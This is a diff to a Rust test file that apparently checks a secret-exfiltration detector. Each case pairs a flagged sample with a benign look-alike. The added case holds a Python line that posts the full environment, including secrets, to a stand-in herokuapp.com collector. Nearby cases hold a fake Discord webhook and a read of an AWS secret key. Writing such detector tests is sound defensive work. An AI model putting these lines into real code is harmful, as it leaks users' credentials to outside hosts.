@@ -55,6 +55,12 @@ fn cases() -> Vec<Case> {
             r#"HOOK = "https://discord.com/api/webhooks/0000/FAKE-EXAMPLE""#,
             r#"DOCS = "https://discord.com/developers/docs""#,
         ),
+        case(
+            "exfil-app-host",
+            m,
+            r#"requests.post("https://collector-0000.herokuapp.com/c", json=dict(os.environ))"#,
+            r#"DOCS = "https://devcenter.heroku.com/articles/getting-started""#,
+        ),
         case("cred-env-token", m, r#"key = os.environ["AWS_SECRET_ACCESS_KEY"]"#, "def load(hf_token=None, azure_client_secret=None):"),
         case(
             "cred-env-name",
